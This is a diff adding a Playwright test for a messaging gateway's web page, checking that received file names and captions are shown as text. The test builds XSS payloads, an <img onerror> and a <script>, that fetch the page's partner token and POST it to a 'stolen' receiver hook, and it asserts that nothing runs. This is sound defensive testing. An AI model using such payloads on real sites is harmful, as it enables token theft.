@@ -3,7 +3,9 @@
 An instance's name is set by whoever holds that one instance token (Z-API ``update-name``), and
 the page shows it to the partner, whose token sits in the page. These tests rename instances to
 markup that would run script, open the page as the partner and check the names stay text, that
-nothing ran or left for another origin, and that the page still links phones and chats.
+nothing ran or left for another origin, and that the page still links phones and chats. File
+names and captions are the sender's text too: the page sends a picture and shows a received
+file whose name and caption are such markup.
 
 Chromium is the system's (``apt-get install chromium``); Playwright's own browser downloads are
 never used. Without it the tests skip, except in CI or with FLEETGATE_TEST_REQUIRE_POSTGRES=1,
@@ -13,11 +15,15 @@ where they fail.
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import os
 import secrets
+import struct
+import zlib
 from collections.abc import AsyncIterator, Awaitable, Callable
 from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -30,6 +36,7 @@ from tests.support import (
     LiveServer,
     MakeInstance,
     MakePartner,
+    authorize,
     postgres_required,
     wait_for_state,
 )
@@ -255,3 +262,119 @@ async def _poll_json(
             return body
         await asyncio.sleep(0.05)
     raise AssertionError(f"{url} never became ready; last {body!r}")
+
+
+def _png(width: int, height: int) -> bytes:
+    """A small real PNG picture (red), made here."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        crc = zlib.crc32(kind + data)
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)
+
+    rows = b"".join(b"\0" + b"\xc8\x1e\x1e" * width for _ in range(height))
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(rows))
+        + chunk(b"IEND", b"")
+    )
+
+
+async def _next_incoming(client: httpx.AsyncClient, instance: Instance) -> dict[str, Any]:
+    """The instance's next incomingMessageReceived notification (others are taken and passed)."""
+    for _ in range(10):
+        r = await client.get(instance.url("receiveNotification"), params={"receiveTimeout": 5})
+        assert r.status_code == 200, r.text
+        got = r.json()
+        if got is None:
+            continue
+        deleted = await client.delete(f"{instance.url('deleteNotification')}/{got['receiptId']}")
+        assert deleted.status_code == 200, deleted.text
+        if got["body"]["typeWebhook"] == "incomingMessageReceived":
+            body: dict[str, Any] = got["body"]
+            return body
+    raise AssertionError("no incomingMessageReceived notification came")
+
+
+async def test_the_page_sends_a_picture_and_shows_received_files_as_text(
+    client: httpx.AsyncClient,
+    make_partner: MakePartner,
+    make_instance: MakeInstance,
+    open_sandbox: OpenPage,
+    receiver: Receiver,
+) -> None:
+    partner_token = await make_partner()
+    instance = await make_instance(partner_token, incomingWebhook="yes")
+    own = _phone()
+    await authorize(client, instance, own)
+    watched = await open_sandbox()
+    page = watched.page
+    await page.fill("#token", partner_token)
+    contact = _phone()
+    await page.fill("#fromPhone", contact)
+    await page.fill("#toPhone", own)
+
+    # The page's phone sends a picture, with the text box as its caption ...
+    picture = _png(3, 2)
+    await page.fill("#text", "a red <b>picture</b>")
+    await page.set_input_files(
+        "#file", files=[{"name": "red.png", "mimeType": "image/png", "buffer": picture}]
+    )
+    await page.click("#sendFile")
+    await page.wait_for_function(
+        "() => document.querySelector('#text').value === ''", timeout=WAIT_MS
+    )
+    assert await page.text_content("#status") == ""
+    # ... and the instance receives it as an image whose link gives back the same bytes.
+    body = await _next_incoming(client, instance)
+    assert body["senderData"]["chatId"] == f"{contact}@c.us"
+    data = body["messageData"]
+    assert data["typeMessage"] == "imageMessage"
+    assert data["fileMessageData"]["fileName"] == "red.png"
+    assert data["fileMessageData"]["caption"] == "a red <b>picture</b>"
+    got = await client.get(data["fileMessageData"]["downloadUrl"])
+    assert got.status_code == 200, got.text
+    assert hashlib.sha256(got.content).hexdigest() == hashlib.sha256(picture).hexdigest()
+
+    # The instance answers with a file whose name and caption are markup that would run.
+    slash = "'+String.fromCharCode(47)+'"  # a file name keeps no folder: no "/" in it
+    hook = receiver.hook("stolen").replace("/", slash)
+    steal = f"fetch('{hook}',{{method:'POST',body:document.getElementById('token').value}})"
+    name = f"<img src=x onerror=window.__pwned=3;{steal}>.png"
+    caption = f"<script>window.__pwned=4;{steal.replace(slash, '/')}</script>"
+    answer = _png(2, 2)
+    r = await client.post(
+        instance.url("sendFileByUpload"),
+        data={"chatId": f"{contact}@c.us", "fileName": name, "caption": caption},
+        files={"file": ("answer.png", answer, "image/png")},
+    )
+    assert r.status_code == 200, r.text
+
+    # The page shows it in the contact's inbox: the name as the text of a download link, the
+    # caption as text, and the picture small (an <img> of this origin, allowed by img-src).
+    link = page.locator("#inbox .file a")
+    await link.wait_for(timeout=WAIT_MS)
+    assert await link.text_content() == name
+    assert await link.get_attribute("download") == name
+    assert await link.get_attribute("rel") == "noopener"
+    href = await link.get_attribute("href") or ""
+    assert href.startswith(watched.origin + "/media/")
+    assert caption in (await page.text_content("#inbox .file") or "")
+    await page.wait_for_function(
+        "() => document.querySelector('#inbox img.preview')?.naturalWidth === 2", timeout=WAIT_MS
+    )
+    async with page.expect_download(timeout=WAIT_MS) as downloading:
+        await link.click()
+    download = await downloading.value
+    saved = await download.path()
+    assert hashlib.sha256(saved.read_bytes()).hexdigest() == hashlib.sha256(answer).hexdigest()
+
+    # Nothing of the markup ran or became elements: the one <img> is the page's own preview.
+    assert await page.locator("#inbox script").count() == 0
+    assert await page.locator("#inbox img").count() == 1
+    assert await page.evaluate("window.__pwned") is None
+    assert watched.dialogs == []
+    assert watched.console_errors == []
+    assert watched.foreign_requests == []
+    assert receiver.of("stolen", ok_only=False) == []
